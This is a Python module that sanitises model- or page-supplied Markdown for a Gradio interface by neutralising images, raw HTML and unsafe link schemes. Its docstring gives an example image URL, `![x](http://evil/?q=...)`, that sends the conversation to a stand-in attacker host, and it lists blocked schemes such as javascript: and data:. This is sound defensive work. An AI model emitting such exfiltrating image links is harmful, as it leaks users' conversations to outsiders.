"""Markdown from the model or a page, made safe to show: nothing in it makes the browser
load a remote resource, and links open without handing over the page.

    answer / title / snippet ─► safe_markdown ─► ui (gr.Markdown) ─► browser

Decisions, in one place:
- Code spans and fenced code are left exactly as written: Markdown shows them as text, and
  their contents (HTML in a coding answer) must read correctly.
- Images (`![alt](url)`, `![alt][ref]`) become a plain link labelled "image: alt": a rendered
  image is a request to a URL the model or a page author chose, which can carry the
  conversation to them (`![x](http://evil/?q=...)`). A click is the reader's choice; a render
  is not.
- Raw HTML is shown as text, not interpreted: every `<` that would open a tag, comment or
  declaration becomes `&lt;`. Allow-listing tags is a sanitizer's job, and no answer needs one.
- Links keep their text and open in a new tab with rel="noopener noreferrer" (the opened page
  gets no handle on ours and no Referer). Only http, https and mailto targets stay links; any
  other scheme (javascript:, data:, file:, vbscript:) keeps its text and loses the link.
- Reference definitions (`[ref]: url`) stay: they only give links a target, and those links
  render as any other.
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

SAFE_SCHEMES = ("http", "https", "mailto")
LINK_REL = "noopener noreferrer"

# fenced blocks (``` or ~~~ to the matching fence or the end) and inline code spans
_CODE = re.compile(r"(?ms)^[ \t]*(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]*\1[ \t]*$|\Z)|(`+)[^`]*?\2")
_URL = r"((?:[^()\s<>]|\([^()\s]*\))*)"  # one level of balanced parentheses, as Markdown allows
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?" + _URL + r">?(?:\s+[\"'(][^)]*)?\s*\)")
_IMAGE_REF = re.compile(r"!\[([^\]\n]*)\]\[([^\]\n]*)\]")
_LINK = re.compile(r"(?<!!)\[([^\]\n]*)\]\(\s*<?" + _URL + r">?(?:\s+[\"'(][^)]*)?\s*\)")
_TAG_OPEN = re.compile(r"<(?=[A-Za-z/!?])")


def safe_markdown(text: str) -> str:
    """`text` with images turned into links, raw HTML shown as text, and every link given
    rel="noopener noreferrer" (see the module docstring)."""
    if not text:
        return ""
    out: list[str] = []
    pos = 0
    for m in _CODE.finditer(text):
        out.append(_prose(text[pos : m.start()]))
        out.append(m.group(0))
        pos = m.end()
    out.append(_prose(text[pos:]))
    return "".join(out)


def safe_url(url: str) -> str | None:
    """The URL if it is one we let a reader follow (http, https, mailto), else None."""
    url = url.strip()
    try:
        scheme = urlsplit(url).scheme.lower()
    except ValueError:
        return None
    return url if scheme in SAFE_SCHEMES else None


def link_html(label: str, url: str) -> str:
    """One link as HTML that opens in a new tab without an opener or a referrer."""
    return f'<a href="{html.escape(url, quote=True)}" target="_blank" rel="{LINK_REL}">{label}</a>'


def _prose(part: str) -> str:
    # HTML first, so the anchors made below are the only tags left in the text
    part = _TAG_OPEN.sub("&lt;", part)
    part = _IMAGE.sub(lambda m: _as_link("image: " + (m.group(1) or "untitled"), m.group(2)), part)
    part = _IMAGE_REF.sub(lambda m: f"[image: {m.group(1) or 'untitled'}][{m.group(2)}]", part)
    return _LINK.sub(lambda m: _as_link(m.group(1), m.group(2)), part)


def _as_link(label: str, url: str) -> str:
    target = safe_url(url)
    label = label.strip() or (target or "link")
    return link_html(label, target) if target else label
